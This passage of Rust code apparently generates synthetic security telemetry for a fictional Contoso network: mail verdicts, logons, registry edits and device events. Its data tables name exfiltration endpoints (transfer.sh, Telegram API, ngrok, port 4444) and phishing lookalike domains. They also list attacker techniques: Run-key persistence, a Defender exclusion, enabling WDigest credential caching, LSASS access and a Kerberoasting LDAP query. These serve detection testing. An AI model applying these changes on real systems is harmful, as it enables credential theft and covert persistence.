    host(EpCat::Bad, "windowsupdate-cdn.net", &["91.92.251."], 80),
    host(EpCat::Bad, "api.telegram.org", &["149.154.167."], 443),
    host(EpCat::Bad, "transfer.sh", &["144.76.136."], 443),
    host(EpCat::Bad, "", &["198.51.100."], 8080),
    host(EpCat::Bad, "", &["185.159.82."], 4444),
    host(
        EpCat::Bad,
        "a1b2-203-0-113-7.ngrok-free.app",
        &["3.125."],
        443,
    ),
];

/// A web site of the URL pool (e-mail links, downloads, clicks).
struct UrlSite {
    domain: &'static str,
    paths: &'static [&'static str],
    ip_prefix: &'static str,
    bad: bool,
}

const URL_SITES: &[UrlSite] = &[
    UrlSite {
        domain: "contoso.sharepoint.com",
        paths: &[
            "/sites/Finance/SitePages/Budget-2026.aspx",
            "/:x:/s/Sales/E%%%%%%%%%%%%?e=%%%%%%",
            "/sites/HR/SitePages/Home.aspx",
        ],
        ip_prefix: "13.107.136.",
        bad: false,
    },
    UrlSite {
        domain: "www.linkedin.com",
        paths: &[
            "/comm/jobs/view/########/",
            "/feed/update/urn:li:activity:###################/",
        ],
        ip_prefix: "13.107.42.",
        bad: false,
    },
    UrlSite {
        domain: "aka.ms",
        paths: &[
            "/LearnAboutSenderIdentification",
            "/azsdk/python/identity",
            "/mfasetup",
        ],
        ip_prefix: "23.50.",
        bad: false,
    },
    UrlSite {
        domain: "github.com",
        paths: &["/contoso/app/pull/####", "/contoso/infra/issues/###"],
        ip_prefix: "140.82.121.",
        bad: false,
    },
    UrlSite {
        domain: "dl.google.com",
        paths: &["/chrome/install/latest/chrome_installer.exe"],
        ip_prefix: "142.250.185.",
        bad: false,
    },
    UrlSite {
        domain: "zoom.us",
        paths: &[
            "/j/##########?pwd=%%%%%%%%%%%%",
            "/client/latest/ZoomInstallerFull.msi",
        ],
        ip_prefix: "170.114.52.",
        bad: false,
    },
    UrlSite {
        domain: "www.fabrikam.com",
        paths: &["/invoices/INV-2026-####", "/newsletter/2026/01"],
        ip_prefix: "20.54.",
        bad: false,
    },
    UrlSite {
        domain: "login-microsoftonline-secure.com",
        paths: &[
            "/common/oauth2/authorize?client_id=%%%%%%%%&login_hint=",
            "/owa/?id=%%%%%%%%%%",
        ],
        ip_prefix: "45.142.212.",
        bad: true,
    },
    UrlSite {
        domain: "contoso-sharepoint.web.app",
        paths: &["/doc/%%%%%%%%/view", "/share/Q4-Bonus-Plan.xlsx"],
        ip_prefix: "199.36.158.",
        bad: true,
    },
    UrlSite {
        domain: "bit.ly",
        paths: &["/3x%%%Q", "/4k%%%z"],
        ip_prefix: "67.199.248.",
        bad: true,
    },
    UrlSite {
        domain: "ipfs.io",
        paths: &["/ipfs/bafybeig%%%%%%%%%%%%%%%%%%%%%%%%%%%%/index.html"],
        ip_prefix: "209.94.90.",
        bad: true,
    },
    UrlSite {
        domain: "dhl-delivery-notice.info",
        paths: &["/track?id=##########", "/redelivery/form.php"],
        ip_prefix: "91.92.251.",
        bad: true,
    },
];

/// Where people connect from (cloud activity, clicks, laptops' public IP).
struct Geo {
    prefix: &'static str,
    country: &'static str,
    city: &'static str,
    isp: &'static str,
    risky: bool,
    tag: Option<&'static str>,
    category: Option<&'static str>,
}

const fn geo(
    prefix: &'static str,
    country: &'static str,
    city: &'static str,
    isp: &'static str,
) -> Geo {
    Geo {
        prefix,
        country,
        city,
        isp,
        risky: false,
        tag: None,
        category: None,
    }
}

const GEOS: &[Geo] = &[
    Geo {
        category: Some("Corporate"),
        ..geo("104.129.", "DE", "Frankfurt am Main", "Zscaler, Inc.")
    },
    geo("84.158.", "DE", "Berlin", "Deutsche Telekom AG"),
    geo("91.64.", "DE", "München", "Vodafone GmbH"),
    geo("73.162.", "US", "Seattle", "Comcast Cable Communications"),
    geo("86.246.", "FR", "Paris", "Orange S.A."),
    geo("81.2.", "GB", "London", "Sky UK Limited"),
    geo("77.249.", "NL", "Amsterdam", "Ziggo B.V."),
    Geo {
        risky: true,
        tag: Some("Tor"),
        category: Some("Anonymous proxy"),
        ..geo("185.220.", "DE", "Frankfurt am Main", "Tor exit node")
    },
    Geo {
        risky: true,
        tag: Some("Hosting"),
        category: Some("Hosting"),
        ..geo("45.142.", "RU", "Moscow", "Aeza International Ltd")
    },
    Geo {
        risky: true,
        ..geo("102.89.", "NG", "Lagos", "MTN Nigeria")
    },
    Geo {
        risky: true,
        tag: Some("Microsoft Azure"),
        category: Some("Cloud provider"),
        ..geo("52.252.", "US", "Boydton", "Microsoft Azure")
    },
];
const HOME_GEOS: &[(u8, u16)] = &[(1, 6), (2, 4), (3, 3), (4, 2), (5, 2), (6, 1)];

/// An external mail sender.
struct ExtSender {
    display: &'static str,
    address: &'static str,
    ip_prefix: &'static str,
    kind: MailKind,
}

impl ExtSender {
    fn domain(&self) -> &'static str {
        self.address.rsplit('@').next().unwrap_or(self.address)
    }
}

const fn sender(
    display: &'static str,
    address: &'static str,
    ip_prefix: &'static str,
    kind: MailKind,
) -> ExtSender {
    ExtSender {
        display,
        address,
        ip_prefix,
        kind,
    }
}

const SENDERS: &[ExtSender] = &[
    sender(
        "Microsoft Azure",
        "azure-noreply@microsoft.com",
        "20.105.209.",
        MailKind::Clean,
    ),
    sender(
        "DocuSign",
        "dse_na4@docusign.net",
        "64.207.219.",
        MailKind::Clean,
    ),
    sender(
        "GitHub",
        "noreply@github.com",
        "192.30.252.",
        MailKind::Clean,
    ),
    sender(
        "Amazon Web Services",
        "no-reply-aws@amazon.com",
        "54.240.8.",
        MailKind::Clean,
    ),
    sender(
        "Deutsche Bahn",
        "buchungsbestaetigung@bahn.de",
        "81.200.198.",
        MailKind::Clean,
    ),
    sender(
        "Fabrikam Procurement",
        "orders@fabrikam.com",
        "20.54.89.",
        MailKind::Clean,
    ),
    sender(
        "Northwind Traders",
        "billing@northwindtraders.com",
        "40.92.18.",
        MailKind::Clean,
    ),
    sender(
        "Adatum Corporation",
        "info@adatum.com",
        "40.107.22.",
        MailKind::Clean,
    ),
    sender(
        "LinkedIn",
        "messages-noreply@linkedin.com",
        "108.174.3.",
        MailKind::Bulk,
    ),
    sender("Zoom", "no-reply@zoom.us", "170.114.10.", MailKind::Bulk),
    sender(
        "Contoso Events",
        "events@mail.contoso-events.com",
        "149.72.47.",
        MailKind::Bulk,
    ),
    sender(
        "Prize Center",
        "winner@prize-center-2026.top",
        "194.87.31.",
        MailKind::Spam,
    ),
    sender(
        "Pharma Direct",
        "deals@pharma-direct.shop",
        "176.111.174.",
        MailKind::Spam,
    ),
    sender(
        "Microsoft 365",
        "no-reply@micros0ft-support.com",
        "45.142.212.",
        MailKind::Phish,
    ),
    sender(
        "IT Helpdesk",
        "helpdesk@contoso-it-support.com",
        "91.92.251.",
        MailKind::Phish,
    ),
    sender(
        "DHL Express",
        "tracking@dhl-delivery-notice.info",
        "91.92.250.",
        MailKind::Phish,
    ),
    sender(
        "SharePoint Online",
        "sharepoint@secure-docs-share.net",
        "185.234.216.",
        MailKind::Phish,
    ),
    sender(
        "Accounts Payable",
        "ap@northwind-traders-billing.com",
        "5.188.206.",
        MailKind::Malware,
    ),
    sender(
        "Xerox WorkCentre",
        "scanner@xerox-scan-service.com",
        "193.42.33.",
        MailKind::Malware,
    ),
];

/// Subjects (and their language) per `MailKind`.
const SUBJECTS: [&[(&str, &str)]; 5] = [
    &[
        ("Re: Q3 budget review", "en"),
        ("Meeting notes – project Atlas", "en"),
        ("Invoice INV-2026-0412 from Fabrikam", "en"),
        ("Your Azure invoice is ready", "en"),
        ("Weekly status report", "en"),
        ("Rechnung Nr. 2026-0042", "de"),
        ("Réunion d'équipe jeudi", "fr"),
        ("Angebot für Wartungsvertrag", "de"),
        ("Updated: All-hands agenda", "en"),
        ("【重要】システムメンテナンスのお知らせ", "ja"),
        ("Reminder: expense reports due Friday", "en"),
        ("FW: Vendor onboarding documents", "en"),
        ("Travel itinerary – Berlin, 12–14 Feb", "en"),
        ("Your GitHub security alert digest", "en"),
        ("Ihre Buchungsbestätigung", "de"),
    ],
    &[
        ("Your weekly LinkedIn digest", "en"),
        ("Last chance: 40% off all plans", "en"),
        ("Webinar: Zero Trust in 2026", "en"),
        ("New features in Zoom Workplace", "en"),
    ],
    &[
        ("You have won a €1,000 gift card", "en"),
        ("Congratulations! Claim your reward", "en"),
        ("Cheap meds online – 80% off", "en"),
    ],
    &[
        ("Action required: Your password expires today", "en"),
        ("DocuSign: Please review and sign 'Payment Advice'", "en"),
        ("Microsoft 365: Unusual sign-in activity", "en"),
        ("Voicemail received (00:43) – listen now", "en"),
        ("Shared document: Q4 Bonus Plan.xlsx", "en"),
        ("DHL: Zustellung fehlgeschlagen", "de"),
        ("Urgent wire transfer request", "en"),
    ],
    &[
        ("Invoice overdue – see attachment", "en"),
        ("Scanned document from Xerox WorkCentre", "en"),
        ("Purchase order PO-88231", "en"),
        ("Remittance advice", "en"),
    ],
];

const ATTACHMENTS: [&[&str]; 5] = [
    &[
        "Invoice_INV-2026-0412.pdf",
        "Q3 Budget.xlsx",
        "Agenda.docx",
        "Angebot_2026.pdf",
        "signature.png",
        "Contract draft v3.docx",
    ],
    &["newsletter.pdf"],
    &["gift_card.pdf"],
    &[
        "Payment_Advice.html",
        "Q4-Bonus-Plan.htm",
        "Voicemail_00-43.html",
    ],
    &[
        "Invoice_88231.zip",
        "Scan_2026-01.iso",
        "Remittance.xlsm",
        "PO-88231.img",
    ],
];

/// How a message of a `MailKind` was handled.
struct Verdict {
    action: &'static str,
    location: &'static str,
    threats: Option<&'static str>,
    threat_names: Option<&'static str>,
    detection: Option<&'static str>,
    confidence: Option<&'static str>,
    bcl: Option<u8>,
    email_action: Option<&'static str>,
    policy: Option<&'static str>,
    org_action: Option<&'static str>,
    auth: &'static str,
}

const AUTH_PASS: &str = r#"{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"pass"}"#;
const AUTH_FAIL: &str = r#"{"SPF":"fail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}"#;

const VERDICTS: [Verdict; 5] = [
    Verdict {
        action: "Delivered",
        location: "Inbox/folder",
        threats: None,
        threat_names: None,
        detection: None,
        confidence: None,
        bcl: None,
        email_action: None,
        policy: None,
        org_action: None,
        auth: AUTH_PASS,
    },
    Verdict {
        action: "Delivered",
        location: "Junk folder",
        threats: None,
        threat_names: None,
        detection: None,
        confidence: None,
        bcl: Some(7),
        email_action: Some("Move message to junk mail folder"),
        policy: Some("Anti-spam policy"),
        org_action: Some("MoveToJmf"),
        auth: AUTH_PASS,
    },
    Verdict {
        action: "Junked",
        location: "Junk folder",
        threats: Some("Spam"),
        threat_names: None,
        detection: Some(r#"{"Spam":["Mixed analysis detection"]}"#),
        confidence: Some(r#"{"Spam":"High"}"#),
        bcl: Some(0),
        email_action: Some("Move message to junk mail folder"),
        policy: Some("Anti-spam policy"),
        org_action: Some("MoveToJmf"),
        auth: r#"{"SPF":"softfail","DKIM":"none","DMARC":"none","CompAuth":"fail"}"#,
    },
    Verdict {
        action: "Blocked",
        location: "Quarantine",
        threats: Some("Phish"),
        threat_names: None,
        detection: Some(r#"{"Phish":["URL detonation reputation","Impersonation brand"]}"#),
        confidence: Some(r#"{"Phish":"High"}"#),
        bcl: Some(0),
        email_action: Some("Send to quarantine"),
        policy: Some("Anti-phishing policy"),
        org_action: Some("Quarantine"),
        auth: AUTH_FAIL,
    },
    Verdict {
        action: "Blocked",
        location: "Quarantine",
        threats: Some("Malware, Phish"),
        threat_names: Some("Trojan:Script/Wacatac.H!ml"),
        detection: Some(r#"{"Malware":["File detonation","Antimalware protection"]}"#),
        confidence: Some(r#"{"Malware":"High"}"#),
        bcl: Some(0),
        email_action: Some("Send to quarantine"),
        policy: Some("Anti-malware policy"),
        org_action: Some("Quarantine"),
        auth: AUTH_FAIL,
    },
];

/// (Action, ActionType, ActionTrigger, DeliveryLocation) per `MailKind`.
const POST_DELIVERY: [&[(&str, &str, &str, &str)]; 5] = [
    &[("Reprocessed", "Redelivery", "SpecialAction", "Inbox")],
    &[(
        "Moved to junk folder",
        "Spam ZAP",
        "SpecialAction",
        "Junk folder",
    )],
    &[(
        "Moved to junk folder",
        "Spam ZAP",
        "SpecialAction",
        "Junk folder",
    )],
    &[
        (
            "Moved to quarantine",
            "Phish ZAP",
            "SpecialAction",
            "Quarantine",
        ),
        (
            "Moved to deleted items",
            "Manual Remediation",
            "AdminAction",
            "Deleted items",
        ),
    ],
    &[(
        "Moved to quarantine",
        "Malware ZAP",
        "SpecialAction",
        "Quarantine",
    )],
];

/// A registry change (templates: `{{usersid}}`, `{{hexN}}` ...).
struct RegSpec {
    key: &'static str,
    value: &'static str,
    kind: &'static str,
    data: &'static str,
    previous: &'static str,
    weight: u16,
    init: Option<&'static str>,
    actions: &'static [(&'static str, u16)],
}

const VALUE_SET: &[(&str, u16)] = &[("RegistryValueSet", 1)];
const CHURN: &[(&str, u16)] = &[
    ("RegistryValueSet", 8),
    ("RegistryValueDeleted", 2),
    ("RegistryKeyCreated", 1),
    ("RegistryKeyDeleted", 1),
];

const REGISTRY: &[RegSpec] = &[
    RegSpec {
        key: "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings\\{{usersid}}",
        value: "\\Device\\HarddiskVolume3\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        kind: "Binary",
        data: "{{hex48}}",
        previous: "{{hex48}}",
        weight: 30,
        init: Some("svchost.exe"),
        actions: VALUE_SET,
    },
    RegSpec {
        key: "HKEY_CURRENT_USER\\{{usersid}}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx",
        value: "MRUListEx",
        kind: "Binary",
        data: "{{hex16}}ffffffff",
        previous: "{{hex16}}ffffffff",
        weight: 15,
        init: Some("explorer.exe"),
        actions: VALUE_SET,
    },
    RegSpec {
        key: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\Results\\Detect",
        value: "LastSuccessTime",
        kind: "String",
        data: "{{date}}",
        previous: "{{date}}",
        weight: 8,
        init: Some("svchost.exe"),
        actions: VALUE_SET,
    },
    RegSpec {
        key: "HKEY_CURRENT_USER\\{{usersid}}\\SOFTWARE\\Microsoft\\Office\\16.0\\Common\\Internet",
        value: "UseOnlineContent",
        kind: "Dword",
        data: "2",
        previous: "1",
        weight: 6,
        init: None,
        actions: CHURN,
    },
    RegSpec {
        key: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates",
        value: "AVSignatureVersion",
        kind: "String",
        data: "1.421.{{n3}}.0",
        previous: "1.421.{{n3}}.0",
        weight: 10,
        init: Some("MsMpEng.exe"),
        actions: VALUE_SET,
    },
    RegSpec {
        key: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-18\\Products\\{{HEX32}}",
        value: "",
        kind: "None",
        data: "",
        previous: "",
        weight: 6,
        init: Some("msiexec.exe"),
        actions: &[("RegistryKeyCreated", 3), ("RegistryKeyDeleted", 1)],
    },
    RegSpec {
        key: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        value: "SecurityHealth",
        kind: "ExpandString",
        data: "%windir%\\system32\\SecurityHealthSystray.exe",
        previous: "%windir%\\system32\\SecurityHealthSystray.exe",
        weight: 2,
        init: None,
        actions: VALUE_SET,
    },
    RegSpec {
        key: "HKEY_CURRENT_USER\\{{usersid}}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        value: "Updater",
        kind: "String",
        data: "C:\\Users\\Public\\{{hex8}}.exe",
        previous: "",
        weight: 1,
        init: Some("reg.exe"),
        actions: VALUE_SET,
    },
    RegSpec {
        key: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths",
        value: "C:\\Users\\Public",
        kind: "Dword",
        data: "0",
        previous: "",
        weight: 1,
        init: Some("MsMpEng.exe"),
        actions: VALUE_SET,
    },
    RegSpec {
        key: "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\SecurityProviders\\WDigest",
        value: "UseLogonCredential",
        kind: "Dword",
        data: "1",
        previous: "0",
        weight: 1,
        init: Some("reg.exe"),
        actions: VALUE_SET,
    },
    RegSpec {
        key: "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\{{svc}}",
        value: "ImagePath",
        kind: "ExpandString",
        data: "%SystemRoot%\\{{svc}}.exe",
        previous: "",
        weight: 2,
        init: Some("services.exe"),
        actions: &[("RegistryValueSet", 3), ("RegistryKeyCreated", 1)],
    },
    RegSpec {
        key: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
        value: "Userinit",
        kind: "String",
        data: "C:\\Windows\\system32\\userinit.exe,",
        previous: "C:\\Windows\\system32\\userinit.exe,",
        weight: 1,
        init: Some("winlogon.exe"),
        actions: VALUE_SET,
    },
    RegSpec {
        key: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate",
        value: "SetActiveHours",
        kind: "Dword",
        data: "1",
        previous: "0",
        weight: 4,
        init: None,
        actions: CHURN,
    },
];

/// Who logs on in a logon kind.
#[derive(Debug, Clone, Copy)]
enum Who {
    Person,
    Admin,
    Service,
    System,
}

/// A kind of logon of DeviceLogonEvents.
struct LogonSpec {
    logon_type: &'static str,
    weight: u16,
    hosts: u16,
    init: &'static str,
    protocols: &'static [(Option<&'static str>, u16)],
    who: Who,
    remote: bool,
    can_fail: bool,
}

const NEGOTIATE: &[(Option<&str>, u16)] = &[(Some("Negotiate"), 1)];
const UNIX_PROTOCOL: &[(Option<&str>, u16)] = &[(None, 1)];

const LOGONS: &[LogonSpec] = &[
    LogonSpec {
        logon_type: "Interactive",
        weight: 14,
        hosts: WKS,
        init: "winlogon.exe",
        protocols: &[(Some("Negotiate"), 3), (Some("Kerberos"), 1)],
        who: Who::Person,
        remote: false,
        can_fail: true,
    },
    LogonSpec {
        logon_type: "Unlock",
        weight: 10,
        hosts: WKS,
        init: "winlogon.exe",
        protocols: NEGOTIATE,
        who: Who::Person,
        remote: false,
        can_fail: true,
    },
    LogonSpec {
        logon_type: "CachedInteractive",
        weight: 5,
        hosts: Role::Laptop.bit(),
        init: "winlogon.exe",
        protocols: NEGOTIATE,
        who: Who::Person,
        remote: false,
        can_fail: false,
    },
    LogonSpec {
        logon_type: "Network",
        weight: 30,
        hosts: WIN,
        init: "lsass.exe",
        protocols: &[
            (Some("Kerberos"), 6),
            (Some("NTLM"), 3),
            (Some("Negotiate"), 1),
        ],
        who: Who::Person,
        remote: true,
        can_fail: true,
    },
    LogonSpec {
        logon_type: "RemoteInteractive",
        weight: 5,
        hosts: SRV,
        init: "svchost.exe",
        protocols: NEGOTIATE,
        who: Who::Admin,
        remote: true,
        can_fail: true,
    },
    LogonSpec {
        logon_type: "Service",
        weight: 16,
        hosts: WIN,
        init: "services.exe",
        protocols: NEGOTIATE,
        who: Who::System,
        remote: false,
        can_fail: false,
    },
    LogonSpec {
        logon_type: "Batch",
        weight: 4,
        hosts: SRV,
        init: "svchost.exe",
        protocols: NEGOTIATE,
        who: Who::Service,
        remote: false,
        can_fail: false,
    },
    LogonSpec {
        logon_type: "Network",
        weight: 25,
        hosts: LNX,
        init: "sshd",
        protocols: UNIX_PROTOCOL,
        who: Who::Admin,
        remote: true,
        can_fail: true,
    },
    LogonSpec {
        logon_type: "Interactive",
        weight: 20,
        hosts: MAC,
        init: "loginwindow",
        protocols: UNIX_PROTOCOL,
        who: Who::Person,
        remote: false,
        can_fail: true,
    },
];

const LOGON_FAILURES: &[(Option<&str>, u16)] = &[
    (Some("InvalidUserNameOrPassword"), 10),
    (Some("UnknownUser"), 3),
    (Some("AccountDisabled"), 1),
    (Some("UserLogonTypeNotGranted"), 1),
];

/// Which file a DeviceEvents action is about.
#[derive(Debug, Clone, Copy)]
enum FilePick {
    None,
    Pool,
    Malware,
    /// LSASS (its image is the file, its process the target).
    Lsass,
}

/// A DeviceEvents action type, the entities it involves and its
/// `AdditionalFields` template (JSON).
struct EventSpec {
    action: &'static str,
    weight: u16,
    file: FilePick,
    net: Option<Net>,
    process: bool,
    account: bool,
    init: Option<&'static str>,
    fields: Option<&'static str>,
}

const fn event(
    action: &'static str,
    weight: u16,
    init: Option<&'static str>,
    fields: Option<&'static str>,
) -> EventSpec {
    EventSpec {
        action,
        weight,
        file: FilePick::None,
        net: None,
        process: false,
        account: false,
        init,
        fields,
    }
}

const DEVICE_EVENTS: &[EventSpec] = &[
    EventSpec {
        account: true,
        ..event(
            "PowerShellCommand",
            30,
            Some("powershell.exe"),
            Some(r#"{"Command":"{{pscmd}}"}"#),
        )
    },
    EventSpec {
        net: Some(Net::Browser),
        ..event(
            "DnsQueryResponse",
            20,
            None,
            Some(
                r#"{"DnsQueryString":"{{rhost}}","DnsQueryResult":[{"DnsQueryType":1,"DnsQueryTypeName":"A","DnsQueryResultRecord":"{{rip}}"}]}"#,
            ),
        )
    },
    event(
        "NamedPipeEvent",
        15,
        None,
        Some(
            r#"{"PipeName":"\\Device\\NamedPipe\\{{pipe}}","FileOperation":"File opened","NamedPipeEnd":"Client","RemoteClientsAccess":"AcceptRemote","DesiredAccess":1180063,"ShareMode":"Read, Write","ThreadId":{{n4}}}"#,
        ),
    ),
    EventSpec {
        net: Some(Net::Browser),
        ..event("BrowserLaunchedToOpenUrl", 8, Some("OUTLOOK.EXE"), None)
    },
    EventSpec {
        file: FilePick::Lsass,
        ..event(
            "OpenProcessApiCall",
            6,
            None,
            Some(r#"{"DesiredAccess":4112}"#),
        )
    },
    EventSpec {
        account: true,
        ..event(
            "ScheduledTaskCreated",
            4,
            Some("svchost.exe"),
            Some(
                r#"{"TaskName":"\\{{task}}","TaskContent":"<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.4\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <RegistrationInfo>\r\n    <Author>CONTOSO\\{{user}}</Author>\r\n    <URI>\\{{task}}</URI>\r\n  </RegistrationInfo>\r\n  <Triggers>\r\n    <LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n    </LogonTrigger>\r\n  </Triggers>\r\n  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>{{taskcmd}}</Command>\r\n    </Exec>\r\n  </Actions>\r\n</Task>"}"#,
            ),
        )
    },
    EventSpec {
        account: true,
        ..event(
            "ScheduledTaskUpdated",
            3,
            Some("svchost.exe"),
            Some(r#"{"TaskName":"\\{{task}}"}"#),
        )
    },
    EventSpec {
        file: FilePick::Malware,
        account: true,
        ..event(
            "AntivirusDetection",
            3,
            Some("MsMpEng.exe"),
            Some(
                r#"{"ThreatName":"{{threat}}","WasRemediated":true,"WasExecutingWhileDetected":false,"ReportSource":"Realtime"}"#,
            ),
        )
    },
    event(
        "AntivirusScanCompleted",
        3,
        Some("MsMpEng.exe"),
        Some(r#"{"ScanTypeIndex":"Quick","ScanId":"{{GUID}}","DurationInSeconds":"{{n3}}"}"#),
    ),
    EventSpec {
        account: true,
        ..event(
            "LdapSearch",
            5,
            Some("powershell.exe"),
            Some(
                r#"{"AttributeList":"[\"objectSid\",\"sAMAccountName\",\"servicePrincipalName\"]","ScopeOfSearch":"SubTree","SearchFilter":"(&(objectCategory=person)(objectClass=user)(servicePrincipalName=*))","DistinguishedName":"DC=corp,DC=contoso,DC=com"}"#,
            ),
        )
    },
    EventSpec {
        file: FilePick::Pool,
        ..event(
            "ShellLinkCreateFileEvent",
            4,
            Some("explorer.exe"),
            Some(
                r#"{"ShellLinkRelativePath":"..\\..\\..\\..\\Documents\\{{file}}","ShellLinkWorkingDirectory":"C:\\Users\\{{user}}\\Documents","ShellLinkShowCommand":"SW_SHOWNORMAL"}"#,
            ),
        )
    },
    EventSpec {
        account: true,
        ..event(
            "ScriptContent",
            2,
            Some("powershell.exe"),
            Some(r#"{"ScriptContent":"{{script}}"}"#),
        )
    },
    EventSpec {
        account: true,
        ..event(
            "UsbDriveMounted",
            1,
            Some("svchost.exe"),
            Some(
                r#"{"DriveLetter":"E:","ProductName":"Cruzer Blade","ProductRevision":"1.00","SerialNumber":"{{HEX16}}","Manufacturer":"SanDisk","Volume":"\\Device\\HarddiskVolume7","BusType":7,"LoggedOnUsers":"CONTOSO\\{{user}}"}"#,
            ),
        )
    },
    EventSpec {
        net: Some(Net::Suspicious),
        account: true,
        ..event(
            "SmartScreenUrlWarning",
            1,
            Some("msedge.exe"),
            Some(r#"{"Experience":"Malicious","ApplicationName":"Microsoft Edge"}"#),
        )
    },
    EventSpec {
        net: Some(Net::Suspicious),
        ..event(
            "ExploitGuardNetworkProtectionBlocked",
            1,
            None,
            Some(
                r#"{"ResponseCategory":"CustomBlockList","DisplayName":"{{rhost}}","IsAudit":false}"#,
            ),
        )
    },
    EventSpec {
        net: Some(Net::Mixed),
        ..event("FirewallOutboundConnectionBlocked", 4, None, None)
    },
    EventSpec {
        process: true,
        account: true,
        ..event(
            "AsrOfficeChildProcessAudited",
            1,
            Some("WINWORD.EXE"),
            Some(r#"{"IsAudit":true,"RuleId":"d4f940ab-401b-4efc-aadc-ad5f3c50688a"}"#),
        )
    },
    EventSpec {
        process: true,
        account: true,
        ..event("ProcessCreatedUsingWmiQuery", 2, Some("WmiPrvSE.exe"), None)
    },
    EventSpec {
        account: true,
        ..event(
            "UserAccountAddedToLocalGroup",
            1,
            Some("net.exe"),
            Some(
                r#"{"GroupName":"Administrators","GroupDomainName":"BUILTIN","GroupSid":"S-1-5-32-544"}"#,
            ),
        )
    },
    EventSpec {
        account: true,
        ..event(
            "ServiceInstalled",
            2,
            Some("services.exe"),
            Some(
                r#"{"ServiceName":"{{svc}}","ServiceAccount":"LocalSystem","ServiceStartType":3,"ServiceType":16}"#,
            ),
        )
    },
    EventSpec {
        account: true,
        ..event(
            "DpapiAccessed",
            3,
            Some("msedge.exe"),
            Some(
                r#"{"DataDescription":"Microsoft Edge","OperationType":"CryptUnprotectData","ProtectorType":"DomainUser"}"#,
            ),
        )
    },
    event("GetClipboardData", 3, Some("ms-teams.exe"), None),
];

const FILE_ACTIONS: &[(&str, u16)] = &[
    ("FileCreated", 50),
    ("FileModified", 30),
    ("FileDeleted", 10),
    ("FileRenamed", 10),
];
const OUTBOUND_ACTIONS: &[(&str, u16)] = &[
    ("ConnectionSuccess", 80),
    ("ConnectionFailed", 5),
    ("ConnectionRequest", 8),
    ("ConnectionAttempt", 2),
    ("SslConnectionInspected", 3),
    ("HttpConnectionInspected", 1),
    ("DnsConnectionInspected", 2),
];
const SHARES: &[(Option<&str>, u16)] = &[
    (Some("Finance$"), 6),
    (Some("Users$"), 3),
    (Some("IPC$"), 1),
];

/// A kind of IdentityLogonEvents row.
struct IdLogon {
    action: &'static str,
    logon_type: &'static str,
    protocol: &'static str,
    failure: Option<&'static str>,
    port: u16,
    weight: u16,
}

const fn id_logon(
    action: &'static str,
    logon_type: &'static str,
    protocol: &'static str,
    failure: Option<&'static str>,
    port: u16,
    weight: u16,
) -> IdLogon {
    IdLogon {
        action,
        logon_type,
        protocol,
        failure,
        port,
        weight,
    }
}

const IDENTITY_LOGONS: &[IdLogon] = &[
    id_logon("LogonSuccess", "Resource access", "Kerberos", None, 88, 50),
    id_logon(
        "LogonSuccess",
        "Credentials validation",
        "Ntlm",
        None,
        445,
        15,
    ),
    id_logon("LogonSuccess", "Interactive", "Kerberos", None, 88, 8),
    id_logon("LogonSuccess", "Resource access", "Ldap", None, 389, 5),
    id_logon("LogonSuccess", "Remote desktop", "Kerberos", None, 88, 3),
    id_logon(
        "LogonFailed",
        "Failed logon",
        "Ntlm",
        Some("WrongPassword"),
        445,
        6,
    ),
    id_logon(
        "LogonFailed",
        "Failed logon",
        "Kerberos",
        Some("UnknownUser"),
        88,
        2,
    ),
    id_logon(
        "LogonFailed",
        "Failed logon",
        "Ntlm",
        Some("AccountDisabled"),
        445,
        1,
    ),
];

const IDENTITY_LOGON_FIELDS: &str = r#"{"Count":"1","Spns":"krbtgt/CORP.CONTOSO.COM","SourceAccountName":"contoso\\{{user}}","SourceComputerOperatingSystemType":"windows","DestinationComputerOperatingSystem":"windows server 2022 datacenter","DestinationComputerOperatingSystemVersion":"10.0 (20348)","DestinationComputerOperatingSystemType":"windows","FROM.DEVICE":"{{HOST}}","TO.DEVICE":"{{dc}}","ACTOR.DEVICE":""}"#;
const IDENTITY_QUERY_FIELDS: &str = r#"{"SourceComputerOperatingSystemType":"windows","FROM.DEVICE":"{{HOST}}","TO.DEVICE":"{{dc}}","ACTOR.DEVICE":"","TARGET_OBJECT.USER":"{{tuser}}"}"#;

/// A kind of IdentityQueryEvents row.
struct IdQuery {
    action: &'static str,
    query_type: &'static str,
    protocol: &'static str,
    query: &'static str,
    target: &'static str,
    port: u16,
    weight: u16,
}

const IDENTITY_QUERIES: &[IdQuery] = &[
    IdQuery {
        action: "SAMR query",
        query_type: "QueryUser",
        protocol: "Samr",
        query: "QueryUser",
        target: "{{tuser}}",
        port: 445,
        weight: 20,
    },
    IdQuery {
        action: "DNS query",
        query_type: "Srv",
        protocol: "Dns",
        query: "_ldap._tcp.dc._msdcs.corp.contoso.com",
        target: "corp.contoso.com",
        port: 53,
        weight: 25,
    },
    IdQuery {
        action: "LDAP query",
        query_type: "AllUsers",
        protocol: "Ldap",
        query: "(&(objectCategory=person)(objectClass=user))",
        target: "corp.contoso.com",
        port: 389,
        weight: 6,
    },
    IdQuery {
        action: "LDAP query",
        query_type: "AllComputers",
        protocol: "Ldap",
